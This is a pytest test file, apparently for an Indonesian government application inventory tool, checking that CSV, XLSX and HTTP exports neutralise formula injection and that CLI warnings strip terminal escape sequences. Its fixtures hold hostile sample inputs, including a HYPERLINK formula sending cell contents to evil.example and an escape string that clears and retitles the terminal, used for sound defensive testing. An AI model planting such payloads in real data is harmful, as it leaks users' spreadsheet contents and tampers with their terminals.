"""Issue 12 item 7 (formula injection in every csv/xlsx export) and the CLI escape-sequence echo."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from spbe_kg.service.store.embedded import EmbeddedStore

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
ESC = "\x1b[2J\x1b]0;owned\x07"
CSV = ("pemda,opd_pengelola,nama_aplikasi,url,deskripsi\n"
       f'Kab. Madiun,Dinas Sosial,"{EVIL.replace(chr(34), chr(34) * 2)}",https://siks.kemensos.go.id,layanan sosial\n'
       f'Kab. Madiun,Dinas Kesehatan,"{EVIL.replace(chr(34), chr(34) * 2)}",https://siks.kemensos.go.id,layanan sosial\n'
       f"Kab. Madiun,Dinas Pendidikan,+SUM(1;2),https://siks.kemensos.go.id,layanan sosial\n"
       f"Kab. Madiun,Dinas Perhubungan,@cmd,https://siks.kemensos.go.id,layanan sosial\n")


def _spbe(*args, cwd) -> subprocess.CompletedProcess:
    return subprocess.run([str(Path(sys.executable).parent / "spbe"), *args], capture_output=True, timeout=300, cwd=cwd)


@pytest.fixture(scope="module")
def store_dir(tmp_path_factory):
    d = tmp_path_factory.mktemp("formula")
    (d / "inv.csv").write_text(CSV)
    r = _spbe("load", "inv.csv", "--store", "store", cwd=d)
    assert r.returncode == 0, r.stderr
    return d


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_duplicates_csv_cli_neutralises_formulas(store_dir):
    r = _spbe("duplicates", "--store", "store", "--format", "csv", "--no-write", cwd=store_dir)
    assert r.returncode == 0, r.stderr
    cells = _cells(r.stdout.decode())
    assert "'" + EVIL in cells  # readable, not evaluated
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_duplicates_xlsx_has_no_formula_cells(store_dir):
    out = store_dir / "dup.xlsx"
    r = _spbe("duplicates", "--store", "store", "--format", "xlsx", "-o", str(out), "--no-write", cwd=store_dir)
    assert r.returncode == 0, r.stderr
    ws = load_workbook(out).active
    kinds = {c.data_type for row in ws.iter_rows() for c in row}
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "f" not in kinds and EVIL in values


def test_duplicates_http_csv_neutralises_formulas(store_dir, tmp_path):
    from fastapi.testclient import TestClient

    from spbe_kg.service.app import create_app
    from spbe_kg.settings import Settings

    store = EmbeddedStore(store_dir / "store")
    try:
        with TestClient(create_app(Settings(store="embedded", query_workers=0), store=store)) as c:
            r = c.get("/duplicates", params={"format": "csv"})
        assert r.status_code == 200
        cells = _cells(r.text)
        assert "'" + EVIL in cells and not [x for x in cells if x.startswith(("=", "+", "-", "@"))]
    finally:
        store.close()


def test_query_csv_cli_neutralises_formulas(store_dir):
    r = _spbe("query", "tanpa-pemetaan-layanan", "--store", "store", "--format", "csv", cwd=store_dir)
    assert r.returncode == 0, r.stderr.decode()
    cells = _cells(r.stdout.decode())
    assert "'" + EVIL in cells and "'@cmd" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_cli_warnings_strip_terminal_escapes(tmp_path):
    import json

    (tmp_path / "inv.json").write_text(json.dumps([
        {"pemda": "Kab. Madiun", "opd_pengelola": "Dinas Sosial", "nama_aplikasi": f"SIKS{ESC}",
         "url": f"not a url{ESC}\x9b31m"}]))
    r = _spbe("convert", "inv.json", "--all-warnings", cwd=tmp_path)
    err = r.stderr.decode()
    assert "not a url" in err, err
    assert "\x1b" not in err and "\x07" not in err and "\x9b" not in err
